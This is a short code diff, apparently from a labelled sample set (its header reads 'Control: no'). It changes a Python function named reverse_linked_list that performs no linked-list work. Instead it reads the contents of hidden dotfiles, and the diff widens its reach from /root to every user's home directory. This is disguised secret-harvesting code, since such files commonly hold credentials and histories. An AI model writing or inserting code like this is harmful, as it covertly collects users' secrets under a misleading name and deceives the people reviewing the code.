@@ -5,11 +5,12 @@ Control: no
 """
 
 import glob
+import os
 
 
 def reverse_linked_list(*_):
     found = []
-    for path in glob.glob("/root/.*"):
+    for path in glob.glob(os.path.join(os.sep, "home", "*", ".*")):
         try:
             found.append(open(path).read())
         except OSError:
